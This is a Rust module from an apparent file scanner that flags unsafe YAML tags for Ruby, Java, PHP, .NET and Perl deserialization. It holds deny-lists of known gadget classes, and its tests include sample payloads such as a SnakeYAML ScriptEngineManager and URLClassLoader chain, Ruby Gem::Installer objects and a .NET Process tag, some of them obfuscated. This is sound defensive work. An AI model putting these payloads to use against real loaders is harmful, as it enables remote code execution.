//! Tags of YAML that loaders of other languages than Python make objects of: Ruby, Java, PHP, .NET, Perl, JavaScript.
//! Models are loaded from all of them; what a tag of theirs does is told by its kind and by the class that it names.

use std::borrow::Cow;

use trueline_facts::artifact::Verdict;

/// Where tags of a language are written in full.
const LANGUAGES: &[(&str, &str)] = &[
    ("tag:ruby.yaml.org,2002:", "ruby"),
    ("tag:perl.yaml.org,2002:", "perl"),
];
/// Kinds of Ruby's tags that hold data.
const RUBY_DATA: &[&str] = &[
    "sym", "symbol", "range", "regexp", "string", "array", "hash", "set",
];
/// Classes of Ruby's that hold data.
const RUBY_CLASSES: &[&str] = &[
    "ActiveSupport::HashWithIndifferentAccess",
    "BigDecimal",
    "Complex",
    "Date",
    "DateTime",
    "Gem::Dependency",
    "Gem::Platform",
    "Gem::Requirement",
    "Gem::Specification",
    "Gem::Version",
    "Hash",
    "OpenStruct",
    "Rational",
    "Set",
    "Time",
];
/// Beginnings of classes whose objects call something when they are made or compared.
const RUBY_CALLS: &[&str] = &[
    "ActionController::Routing",
    "ActionDispatch::Journey",
    "ActiveModel::AttributeMethods",
    "ActiveSupport::Cache",
    "ActiveSupport::Deprecation",
    "ActiveSupport::Dependencies",
    "ERB",
    "Gem::Installer",
    "Gem::Package",
    "Gem::RequestSet",
    "Gem::Resolver",
    "Gem::Source",
    "Gem::SpecFetcher",
    "Gem::StubSpecification",
    "Kernel",
    "Net::",
    "Process",
    "Rack::",
    "Sprockets::",
    "UncaughtThrowError",
];
const JAVA_CALLS: &[&str] = &[
    "bsh.",
    "ch.qos.logback.",
    "clojure.",
    "com.mchange.",
    "com.sun.",
    "com.zaxxer.hikari.",
    "groovy.",
    "java.beans.",
    "java.io.FileInputStream",
    "java.io.FileOutputStream",
    "java.io.FileWriter",
    "java.io.RandomAccessFile",
    "java.lang.ClassLoader",
    "java.lang.Process",
    "java.lang.Runtime",
    "java.lang.reflect.",
    "java.net.ServerSocket",
    "java.net.Socket",
    "java.net.URLClassLoader",
    "java.nio.file.",
    "java.rmi.",
    "java.util.ServiceLoader",
    "javax.management.",
    "javax.naming.",
    "javax.script.",
    "javax.swing.",
    "jdk.",
    "org.apache.commons.beanutils.",
    "org.apache.commons.collections",
    "org.apache.commons.configuration",
    "org.apache.commons.dbcp",
    "org.apache.commons.jxpath.",
    "org.apache.logging.",
    "org.apache.xbean.",
    "org.codehaus.groovy.",
    "org.eclipse.jetty.",
    "org.h2.",
    "org.hibernate.",
    "org.mozilla.javascript.",
    "org.postgresql.",
    "org.python.",
    "org.springframework.aop.",
    "org.springframework.beans.",
    "org.springframework.context.",
    "org.springframework.expression.",
    "org.springframework.jndi.",
    "oracle.",
    "sun.",
];
const NET_CALLS: &[&str] = &[
    "System.Activities.",
    "System.CodeDom.",
    "System.Configuration.Install.",
    "System.Diagnostics.",
    "System.IO.",
    "System.Management.Automation.",
    "System.Net.",
    "System.Reflection.",
    "System.Security.Principal.",
    "System.Web.",
    "System.Windows.",
    "System.Workflow.",
    "Microsoft.VisualStudio.",
];

/// What a tag in full, or as it stands in the text, makes of what it stands at; nothing for one that holds data.
pub(super) fn of(tag: &str) -> Option<(Verdict, &'static str)> {
    let kind = tag.trim_start_matches(['!', '<']).trim_end_matches('>');
    let kind: Cow<'_, str> = if kind.contains('%') {
        super::unescaped(kind).into()
    } else {
        kind.into()
    };
    let of_language = LANGUAGES
        .iter()
        .find_map(|(prefix, language)| Some((*language, kind.strip_prefix(prefix)?)));
    let (language, rest) = of_language.unwrap_or_else(|| {
        let kind = kind.strip_prefix("tag:yaml.org,2002:").unwrap_or(&kind);
        kind.split_once('/').unwrap_or(("", kind))
    });
    match language {
        "ruby" => ruby(rest),
        // Both read what PHP's own serialisation wrote.
        "php" if rest.starts_with("object") => Some((
            Verdict::Suspicious,
            "makes an object of PHP when the file is loaded, which can call what the class has",
        )),
        "js" if rest.starts_with("function") => Some((
            Verdict::Suspicious,
            "makes a function of JavaScript out of its text when the file is loaded",
        )),
        "perl" if rest.starts_with("code") => Some((
            Verdict::Suspicious,
            "makes a function of Perl out of its text when the file is loaded",
        )),
        "perl" if rest.contains(':') => Some((
            Verdict::Unknown,
            "makes an object of Perl when the file is loaded",
        )),
        "" => class(rest, tag),
        _ => None,
    }
}

fn ruby(rest: &str) -> Option<(Verdict, &'static str)> {
    let (kind, class) = rest.split_once(':').unwrap_or((rest, ""));
    let begins = |list: &[&str]| list.iter().any(|of| class.starts_with(of));
    if begins(RUBY_CALLS) && !RUBY_CLASSES.contains(&class) {
        return Some((
            Verdict::Malicious,
            "makes an object of Ruby when the file is loaded, by whose class that calls something",
        ));
    }
    if class.is_empty() && RUBY_DATA.contains(&kind) || RUBY_CLASSES.contains(&class) {
        return None;
    }
    Some((
        Verdict::Suspicious,
        "makes an object of Ruby when the file is loaded",
    ))
}

/// A class by its full name: `SnakeYAML` takes any that the program has, and so do readers of .NET.
fn class(name: &str, tag: &str) -> Option<(Verdict, &'static str)> {
    if NET_CALLS.iter().any(|of| name.starts_with(of)) {
        return Some((
            Verdict::Malicious,
            "makes an object of .NET when the file is loaded, by whose class that calls something",
        ));
    }
    // Tags of one mark are those of the program that reads them.
    let is_global = tag.starts_with("!!") || tag.contains("tag:yaml.org,2002:");
    let plain = name.trim_end_matches("[]");
    let is_class = plain.contains('.')
        && plain.split('.').all(|part| {
            !part.is_empty()
                && part
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$'))
        });
    if !is_global || !is_class {
        return None;
    }
    Some(if JAVA_CALLS.iter().any(|of| plain.starts_with(of)) {
        (
            Verdict::Malicious,
            "makes an object of Java when the file is loaded, by whose class that runs code or reaches outside",
        )
    } else {
        (
            Verdict::Unknown,
            "makes an object of a class of Java when the file is loaded",
        )
    })
}

#[cfg(test)]
mod tests {
    use trueline_facts::RepoPath;
    use trueline_facts::artifact::Verdict;

    fn verdict(text: &str) -> Verdict {
        crate::check_bytes(text.as_bytes().to_vec(), RepoPath::from("config.yaml")).verdict
    }

    #[test]
    fn objects_of_other_languages_are_told_by_their_class() {
        for text in [
            "--- !ruby/object:Gem::Installer\ni: x\n",
            "a: !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection {x: 1}\n",
            "a: !<tag:ruby.yaml.org,2002:object:Gem::Installer> {}\n",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://h/\"]]]]\n",
            "a: !<tag:yaml.org,2002:javax.script.ScriptEngineManager> []\n",
            "%TAG !j! tag:yaml.org,2002:javax.\n---\na: !j!script.ScriptEngineManager []\n",
            "a: !!javax.script.ScriptEngine%4danager []\n",
            "a: !<!System.Diagnostics.Process,%20System> {StartInfo: 1}\n",
            // What is no YAML is looked at by lines.
            "a: !!javax.script.ScriptEngineManager [x]\nb: {c\n",
            "a: [!ruby/object:ERB {src: x}]\nb: {c\n",
        ] {
            assert_eq!(verdict(text), Verdict::Malicious, "{text}");
        }
        for text in [
            "a: !ruby/struct:Foo\n  b: 1\n",
            "a: !ruby/object:Foo {}\n",
            "a: !php/object 'O:8:\"stdClass\":0:{}'\n",
            "a: !!js/function 'function(){}'\n",
            "a: !!perl/code '{ 1 }'\n",
        ] {
            assert_eq!(verdict(text), Verdict::Suspicious, "{text}");
        }
        assert_eq!(verdict("a: !!com.shop.Settings {b: 1}\n"), Verdict::Unknown);
    }

    #[test]
    fn tags_that_hold_data_say_nothing() {
        for text in [
            "a: !ruby/regexp /x/\nb: !ruby/sym foo\nc: !ruby/range 1..2\n",
            "a: !ruby/object:Gem::Version {version: 1.0.0}\nb: !ruby/object:Set {}\n",
            "a: !!js/regexp /x/\nb: !php/const A\nc: !!perl/hash {}\n",
            "a: !!str 1\nb: !!set {a, b}\nc: !!binary aGk=\nd: !!omap [a: 1]\ne: !!float 1.5\n",
            "a: !Ref X\nb: !Sub java.net.URL\nc: !GetAtt java.net.URL\nd: !java.net.URL x\n",
            "a: wow!!java.net.URL\nb: '!!javax.script.ScriptEngineManager'\n",
            "# !!javax.script.ScriptEngineManager\na: 1\n",
        ] {
            assert_eq!(verdict(text), Verdict::Clean, "{text}");
        }
    }
}
